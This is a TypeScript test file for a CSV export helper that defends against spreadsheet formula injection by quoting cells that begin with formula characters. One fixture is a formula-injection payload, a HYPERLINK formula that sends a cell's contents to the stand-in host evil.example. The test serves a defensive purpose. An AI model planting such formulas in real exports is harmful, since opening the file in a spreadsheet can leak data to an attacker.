import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { neutraliseCsvCell, stringifyCsv } from "../../src/core/csv-cell.js";

/** RFC 4180 read back: quoted fields with doubled quotes, CRLF records; enough for these files. */
function parseCsv(text: string): string[][] {
	const records: string[][] = [];
	let record: string[] = [];
	let field = "";
	let quoted = false;
	for (let index = 0; index < text.length; index++) {
		const character = text[index];
		if (quoted) {
			if (character === '"' && text[index + 1] === '"') {
				field += '"';
				index++;
			} else if (character === '"') quoted = false;
			else field += character;
		} else if (character === '"') quoted = true;
		else if (character === ",") {
			record.push(field);
			field = "";
		} else if (character === "\r" && text[index + 1] === "\n") {
			record.push(field);
			records.push(record);
			record = [];
			field = "";
			index++;
		} else field += character;
	}
	return records;
}

describe("CSV cells", () => {
	it("get a leading quote when they start with = + - @ a tab or a carriage return, and only then", () => {
		for (const lead of ["=", "+", "-", "@", "\t", "\r"]) assert.equal(neutraliseCsvCell(`${lead}A1`), `'${lead}A1`);
		for (const plain of ["Rode Morgen", "PC-AP", "Côte d'Ivoire", "", " =A1 is quoted by the space", "1+1"])
			assert.equal(neutraliseCsvCell(plain), plain);
	});

	it("are neutralised in every column of a file, numbers stay numbers, and the file still parses back", () => {
		const rows = [
			{ name: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', abbreviation: "=A1", country: "+PE", number: 1 },
			{ name: "@SUM(A1:A9)", abbreviation: "-2+3", country: "\tNL", number: 2 },
		];
		const csv = stringifyCsv(rows, ["name", "abbreviation", "country", "number"]);
		assert.deepEqual(parseCsv(csv), [
			["name", "abbreviation", "country", "number"],
			[`'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`, "'=A1", "'+PE", "1"],
			["'@SUM(A1:A9)", "'-2+3", "'\tNL", "2"],
		]);
		for (const line of csv.split("\r\n").slice(1)) assert.doesNotMatch(line, /(^|,)"?[=+\-@\t\r]/);
	});
});
